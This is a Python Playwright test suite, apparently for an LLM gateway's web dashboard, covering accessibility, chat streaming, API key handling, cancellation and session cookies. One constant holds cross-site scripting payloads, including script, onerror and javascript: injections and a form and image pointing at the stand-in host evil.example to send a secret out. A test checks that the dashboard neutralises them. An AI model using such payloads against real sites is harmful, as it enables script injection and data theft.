"""The dashboard in a real browser: what a person sees and does, on a desk and on a phone, in light and dark.

`looking` also asserts that a tab logged no error, asked no other host for anything, and violated no policy.
"""

import asyncio
import time
from typing import Any

import aiohttp
import pytest

pytest.importorskip("playwright.async_api", reason="needs playwright: it is among the dev requirements")
pytest.importorskip("axe_playwright_python", reason="needs axe: it is among the dev requirements")

from axe_playwright_python.async_playwright import Axe
from playwright.async_api import Browser, expect

from local_gateway.accounts.worker_runs import WorkerRun
from tests.web.stage import SCREENS, Looker, Stage, fill, looking

PAGES = ("now", "targets", "usage", "playground", "keys")
HOSTILE = """<img src=x onerror="alert(1)"> <script>alert(2)</script> [click](javascript:alert(3))
<svg onload="alert(4)"></svg> <style>body{display:none}</style>
<form action="https://evil.example/"><input name=q></form>
![secret](https://evil.example/?q=secret) <b onclick="alert(5)">x</b>

[fine](https://ok.example/)"""


def say(text: str) -> dict[str, Any]:
    return {"model": "llama", "stream": True, "messages": [{"role": "user", "content": text}]}


def run_of_worker() -> WorkerRun:
    """Billed for 100 s, 20 of which it took to start."""
    started = time.time() - 200
    return WorkerRun(endpoint="abc123", worker_id="w", started=started, seconds=99.5, start_seconds=20.0, price=0.01)


async def send(looker: Looker, text: str) -> None:
    await looker.page.get_by_role("textbox", name="Message").fill(text)
    await looker.page.get_by_role("textbox", name="Message").press("Enter")


@pytest.mark.parametrize("screen", SCREENS)
async def test_every_page_is_accessible(stage: Stage, browser: Browser, screen: str) -> None:
    """axe has nothing to say about any page, and none is wider than its screen."""
    secret, admin = stage.add_key("ada", is_admin=True)
    fill(stage.store, [admin], days=9)
    stage.store.keep_runs([run_of_worker()])
    stage.add_key("a very long name for a key " * 3, models=("llama", "gpt-*"), budget=2.0)
    async with looking(browser, screen, stage.url, bypass_csp=True) as looker:
        await looker.open(stage.url)
        await looker.page.get_by_label("Key").wait_for()
        await assert_accessible(looker, "sign-in")
        await looker.sign_in(stage.url, secret)
        await send_in_background(stage, secret, "hold")
        for name in PAGES:
            await looker.open(stage.url, name)
            await looker.page.get_by_role("heading", level=1).wait_for()
            await looker.page.locator("main .panel").first.wait_for()
            await assert_accessible(looker, name)
            width = await looker.page.evaluate("document.documentElement.scrollWidth - innerWidth")
            assert width <= 0, f"{name} is too wide by {width}"


async def assert_accessible(looker: Looker, name: str) -> None:
    found = await Axe().run(looker.page, options={"resultTypes": ["violations"]})
    assert not found.response["violations"], f"{name}: {found.generate_report()}"


async def send_in_background(stage: Stage, secret: str, text: str) -> None:
    """A client of the API; returns when its request runs."""

    async def ask() -> bytes:
        async with (
            aiohttp.ClientSession(headers={"authorization": f"Bearer {secret}"}) as session,
            session.post(f"{stage.url}/v1/chat/completions", json=say(text)) as response,
        ):
            return await response.read()

    stage.tasks.append(asyncio.create_task(ask()))
    async with asyncio.timeout(10):
        while not list(stage.gateway.live_requests):  # noqa: ASYNC110 - a request comes over a socket
            await asyncio.sleep(0.01)


async def test_chat_streams(stage: Stage, browser: Browser) -> None:
    """Words appear while the model still writes; then the answer is Markdown, with its speed and its cost."""
    secret, _ = stage.add_key("ada")
    async with looking(browser, "desktop-light", stage.url) as looker:
        await looker.sign_in(stage.url, secret, "playground")
        await send(looker, "hold it there")
        messages = looker.page.locator(".messages")
        await expect(messages).to_contain_text("The capital of France")
        await expect(messages).not_to_contain_text("Bonjour")
        stage.models["runpod"].go_on.set()
        await expect(messages.locator("pre code")).to_contain_text('print("Bonjour")')
        await expect(messages.locator("strong")).to_have_text("Paris")
        await expect(messages.locator(".stats")).to_contain_text("tok/s")
        await expect(messages.locator(".stats")).to_contain_text("24 +")
        await expect(messages.locator(".stats")).to_contain_text("cost")


async def test_cost_after_a_cold_start(stage: Stage, browser: Browser) -> None:
    """The stream is opened before a target is chosen: its name and the cost are told when they are known."""
    secret, _ = stage.add_key("ada")
    async with looking(browser, "desktop-light", stage.url) as looker:
        await looker.sign_in(stage.url, secret, "playground")
        async with looker.page.expect_response("**/ui/v1/chat/completions") as opened:
            await send(looker, "start")
        assert "x-gateway-target" not in await (await opened.value).all_headers()
        stage.models["runpod"].go_on.set()
        stats = looker.page.locator(".messages .stats")
        await expect(stats).to_contain_text("runpod")
        await expect(stats).to_contain_text("cost")


async def test_long_answer_is_followed(stage: Stage, browser: Browser) -> None:
    """The newest words stay in sight while they come, unless the reader has scrolled up."""
    stage.models["runpod"].text = "\n\n".join(f"Line {number} of many." for number in range(80))
    secret, _ = stage.add_key("ada")
    async with looking(browser, "desktop-light", stage.url) as looker:
        await looker.sign_in(stage.url, secret, "playground")
        await send(looker, "hold")
        await expect(looker.page.get_by_text("Line 38 of many.")).to_be_in_viewport()
        await looker.page.locator(".messages").evaluate("box => { box.scrollTop = 0; }")
        stage.models["runpod"].go_on.set()
        await expect(looker.page.locator(".stats")).to_contain_text("tok/s")
        assert await looker.page.locator(".messages").evaluate("box => box.scrollTop") == 0


async def test_two_models_side_by_side(stage: Stage, browser: Browser) -> None:
    """Ours beside OpenAI's: one question, two answers, each told with who gave it."""
    secret, _ = stage.add_key("ada")
    async with looking(browser, "desktop-dark", stage.url) as looker:
        await looker.sign_in(stage.url, secret, "playground")
        await looker.page.get_by_role("button", name="Two side by side").click()
        await send(looker, "hello")
        first, second = (
            looker.page.get_by_role("region", name="Conversation 1"),
            looker.page.get_by_role("region", name="Conversation 2"),
        )
        await expect(first.locator(".stats")).to_contain_text("runpod")
        await expect(second.locator(".stats")).to_contain_text("openai")
        await expect(second).to_contain_text("It has been the capital")


async def test_stop_reaches_the_target(stage: Stage, browser: Browser) -> None:
    """The playground's Stop closes the connection, and the gateway lets go of the target."""
    secret, _ = stage.add_key("ada")
    async with looking(browser, "desktop-light", stage.url) as looker:
        await looker.sign_in(stage.url, secret, "playground")
        await send(looker, "hold")
        await expect(looker.page.locator(".messages")).to_contain_text("The capital")
        await looker.page.get_by_role("button", name="Stop").click()
        async with asyncio.timeout(10):
            await stage.models["runpod"].upstreams[0].is_closed.wait()
        await expect(looker.page.locator(".messages")).to_contain_text("Stopped.")


async def test_reasoning_and_tool_calls(stage: Stage, browser: Browser) -> None:
    """A model that thinks first is not silent, and a call of a tool is shown as one."""
    secret, _ = stage.add_key("ada", models=("qwen-coder",))
    async with looking(browser, "phone-light", stage.url) as looker:
        await looker.sign_in(stage.url, secret, "playground")
        await send(looker, "use a tool")
        await expect(looker.page.get_by_text("Reasoning")).to_be_visible()
        await expect(looker.page.locator(".tool")).to_contain_text("weather")
        await expect(looker.page.locator(".tool")).to_contain_text("Paris")


async def test_what_a_model_writes_cannot_do_anything(stage: Stage, browser: Browser) -> None:
    """No script, no image, no form, no style, no address but the web's; names of keys are only text."""
    stage.models["runpod"].text = HOSTILE
    secret, _ = stage.add_key("<img src=x onerror=alert(6)>", is_admin=True)
    async with looking(browser, "desktop-light", stage.url) as looker:
        alerts: list[str] = []
        looker.page.on("dialog", lambda dialog: alerts.append(dialog.message))
        await looker.sign_in(stage.url, secret, "playground")
        await send(looker, "hello")
        messages = looker.page.locator(".messages")
        await expect(messages.get_by_role("link", name="fine")).to_have_attribute("href", "https://ok.example/")
        assert not await messages.locator("img, script, style, form, input, svg, [onclick], [onerror]").count()
        assert not await messages.locator("a[href^=javascript]").count()
        for page in ("now", "keys"):
            await looker.open(stage.url, page)
            await expect(looker.page.locator("main")).to_contain_text("<img src=x onerror=alert(6)>")
        assert not alerts


async def test_cancel_frees_the_slot(stage: Stage, browser: Browser) -> None:
    """Cancel on the page ends the work at the target; the client is told, and the record says so."""
    secret, _ = stage.add_key("ada", is_admin=True)
    async with looking(browser, "desktop-light", stage.url) as looker:
        await looker.sign_in(stage.url, secret)
        await send_in_background(stage, secret, "hold")
        row = looker.page.get_by_role("row").filter(has_text="runpod").first
        await expect(row).to_contain_text("ada")
        await row.get_by_role("button", name="Cancel").click()
        async with asyncio.timeout(10):
            await stage.models["runpod"].upstreams[0].is_closed.wait()
            answer = await stage.tasks[0]
        assert b"cancelled on the gateway's dashboard" in answer
        await expect(looker.page.get_by_text("Nothing is running.").first).to_be_visible()
        await expect(looker.page.locator("main")).to_contain_text("cancelled 499")
    assert stage.gateway.live_requests.recent[0].outcome == "cancelled"


async def test_cold_start_is_seen_and_can_be_cancelled(stage: Stage, browser: Browser) -> None:
    """A request that waits for a worker says so, with seconds; cancelled, nothing of it is left at the target."""
    secret, _ = stage.add_key("ada", is_admin=True)
    played = stage.models["runpod"]
    played.health_now = played.health_now._replace(num_ready_workers=0, num_starting_workers=1)
    async with looking(browser, "phone-dark", stage.url) as looker:
        await looker.sign_in(stage.url, secret)
        await send_in_background(stage, secret, "start")
        await expect(looker.page.locator(".pill.warn")).to_contain_text("cold start")
        await looker.page.get_by_role("button", name="Cancel").click()
        await expect(looker.page.get_by_text("Nothing is running.").first).to_be_visible()
    assert played.num_abandoned == 1


async def test_key_is_made_used_and_revoked(stage: Stage, browser: Browser) -> None:
    """Its secret is shown once; it opens the API until it is revoked."""
    secret, _ = stage.add_key("ada", is_admin=True)
    async with looking(browser, "desktop-light", stage.url) as looker:
        page = looker.page
        await looker.sign_in(stage.url, secret, "keys")
        await page.get_by_role("button", name="Make a key").click()
        await page.get_by_label("Name", exact=True).fill("bob's editor")
        await page.get_by_label("Models", exact=False).fill("llama, gpt-*")
        await page.get_by_label("Requests a minute").fill("60")
        await page.get_by_label("Budget", exact=True).fill("2.50")
        await page.get_by_role("button", name="Make the key").click()
        made = await page.get_by_role("status", name="The new key").locator("pre").inner_text()
        assert made.startswith("lg-")
        row = page.get_by_role("row").filter(has_text="bob's editor")
        await expect(row).to_contain_text("llama, gpt-*")
        await expect(row).to_contain_text("60 requests/min")
        await expect(row).to_contain_text("of 2.50")
        await until_status(looker, stage, made, 200)
        await row.get_by_role("button", name="Revoke").click()
        await page.get_by_role("dialog").get_by_role("button", name="Revoke").click()
        await expect(page.get_by_text("Show 1 revoked")).to_be_visible()
        await until_status(looker, stage, made, 401)


async def until_status(looker: Looker, stage: Stage, secret: str, status: int) -> None:
    """The gateway looks at its database once a second."""
    deadline = time.monotonic() + 10
    while True:
        response = await looker.context.request.get(
            f"{stage.url}/v1/models", headers={"authorization": f"Bearer {secret}"}
        )
        if response.status == status:
            return
        assert time.monotonic() < deadline, response.status
        await asyncio.sleep(0.05)


async def test_mistake_in_a_new_key_is_said(stage: Stage, browser: Browser) -> None:
    """In the dialog, which stays open with what was typed."""
    secret, _ = stage.add_key("ada", is_admin=True)
    async with looking(browser, "desktop-light", stage.url) as looker:
        await looker.sign_in(stage.url, secret, "keys")
        await looker.page.get_by_role("button", name="Make a key").click()
        await looker.page.get_by_label("Name", exact=True).fill("ada")
        await looker.page.get_by_role("button", name="Make the key").click()
        await expect(looker.page.get_by_role("alert")).to_contain_text("There is a key named 'ada' already")


async def test_ordinary_key_sees_its_own(stage: Stage, browser: Browser) -> None:
    """Its usage and its requests, its models; no keys, no other names."""
    _, other = stage.add_key("other")
    secret, own = stage.add_key("ada", models=("gpt-4o-mini",))
    fill(stage.store, [other], days=3)
    async with looking(browser, "desktop-dark", stage.url) as looker:
        page = looker.page
        await looker.sign_in(stage.url, secret, "usage")
        await expect(page.get_by_text("Nothing was used in these days")).to_be_visible()
        await expect(page.get_by_role("link", name="Keys")).to_have_count(0)
        fill(stage.store, [own], days=2)
        await page.get_by_role("button", name="7 days").click()
        await expect(page.locator("tbody")).to_contain_text("gpt-4o-mini")
        await expect(page.get_by_role("button", name="Key", exact=True)).to_have_count(0)
        await looker.open(stage.url, "targets")
        await expect(page.locator("main")).to_contain_text("openai")
        await expect(page.locator("main")).not_to_contain_text("runpod")


async def test_usage_is_charted_and_can_be_taken_along(stage: Stage, browser: Browser) -> None:
    """The chart has words for a screen reader, a table beside it, and the same rows as CSV."""
    secret, admin = stage.add_key("ada", is_admin=True)
    fill(stage.store, [admin], days=5)
    async with looking(browser, "desktop-light", stage.url) as looker:
        page = looker.page
        await looker.sign_in(stage.url, secret, "usage")
        await expect(page.get_by_role("img", name="Tokens a day")).to_be_visible()
        await page.get_by_role("button", name="Target").click()
        await expect(page.locator("tbody")).to_contain_text("office-coder")
        async with page.expect_download() as downloading:
            await page.get_by_role("link", name="CSV").click()
        content = (await (await downloading.value).path()).read_text()
        assert content.splitlines()[0].startswith("target,requests,failed")


async def test_what_workers_cost(stage: Stage, browser: Browser) -> None:
    """A table of RunPod's endpoints, with their true prices, and the same as CSV."""
    secret, admin = stage.add_key("ada", is_admin=True)
    fill(stage.store, [admin], days=5)
    stage.store.keep_runs([run_of_worker()])
    async with looking(browser, "phone-dark", stage.url) as looker:
        page = looker.page
        await looker.sign_in(stage.url, secret, "usage")
        panel = page.get_by_role("region", name="RunPod's workers")
        await expect(panel.locator("tbody")).to_contain_text("abc123")
        await expect(panel.locator("tbody")).to_contain_text("0.2000")
        async with page.expect_download() as downloading:
            await panel.get_by_role("link", name="CSV").click()
        content = (await (await downloading.value).path()).read_text()
        assert content.splitlines()[1].startswith("abc123,1,100,20.0")


async def test_keyboard_alone(stage: Stage, browser: Browser) -> None:
    """Sign in, skip to the page, go to another one, and say something, without a mouse."""
    secret, _ = stage.add_key("ada")
    async with looking(browser, "desktop-light", stage.url) as looker:
        page = looker.page
        await looker.open(stage.url)
        await page.get_by_label("Key").wait_for()
        await page.keyboard.press("Tab")
        await page.keyboard.type(secret)
        await page.keyboard.press("Enter")
        await page.get_by_role("heading", name="Now").wait_for()
        await page.evaluate("document.activeElement.blur()")
        await page.keyboard.press("Tab")
        await expect(page.get_by_role("link", name="Skip to the page")).to_be_focused()
        await page.get_by_role("navigation").get_by_role("link", name="Playground").focus()
        await page.keyboard.press("Enter")
        await page.get_by_role("heading", name="Playground").wait_for()
        await page.get_by_role("textbox", name="Message").focus()
        await page.keyboard.type("hello")
        await page.keyboard.press("Enter")
        await expect(page.locator(".stats")).to_contain_text("first token")


async def test_wrong_key_and_signing_out(stage: Stage, browser: Browser) -> None:
    """A wrong key is refused in words; after signing out the cookie is worth nothing."""
    secret, _ = stage.add_key("ada")
    async with looking(browser, "phone-light", stage.url) as looker:
        page = looker.page
        await looker.open(stage.url)
        await page.get_by_label("Key").fill("lg-wrong")
        await page.get_by_role("button", name="Sign in").click()
        await expect(page.get_by_role("alert")).to_contain_text("no key of this gateway")
        await looker.sign_in(stage.url, secret)
        (cookie,) = await looker.context.cookies()
        assert cookie["httpOnly"]
        assert cookie["sameSite"] == "Strict"
        assert secret not in cookie["value"]
        assert await page.evaluate("Object.keys(localStorage).length + Object.keys(sessionStorage).length") == 0
        await page.locator("main").get_by_role("button", name="Sign out").click()
        await page.get_by_role("heading", name="Sign in").wait_for()
        await looker.context.add_cookies([cookie])  # type: ignore[list-item]  # what it gave, it takes
        await page.reload()
        await page.get_by_role("heading", name="Sign in").wait_for()


async def test_revoked_key_is_signed_out(stage: Stage, browser: Browser) -> None:
    """Also on a page that is open."""
    secret, key = stage.add_key("ada")
    async with looking(browser, "desktop-light", stage.url) as looker:
        await looker.sign_in(stage.url, secret)
        await looker.page.get_by_role("heading", name="Now").wait_for()
        stage.store.disable_key(key.id)
        await looker.page.get_by_role("heading", name="Sign in").wait_for()


async def test_first_run_on_this_machine(stage: Stage, browser: Browser) -> None:
    """Without keys the page is open, says so, and leads to the first key; with it every visitor signs in."""
    async with looking(browser, "desktop-light", stage.url) as looker:
        page = looker.page
        await looker.open(stage.url)
        await expect(page.get_by_text("answers only on this machine").first).to_be_visible()
        await expect(page.get_by_text("curl http://127.0.0.1").first).to_be_visible()
        await page.get_by_role("link", name="Keys").click()
        await expect(page.get_by_text("There is no key yet")).to_be_visible()
        await page.get_by_role("button", name="Make a key").click()
        await page.get_by_label("Name", exact=True).fill("me")
        await page.get_by_role("button", name="Make the key").click()
        await expect(page.get_by_role("status", name="The new key")).to_contain_text("lg-")
        await expect(page.locator(".side .who")).to_contain_text("administrator")
    async with looking(browser, "desktop-light", stage.url) as stranger:
        await stranger.open(stage.url)
        await stranger.page.get_by_role("heading", name="Sign in").wait_for()
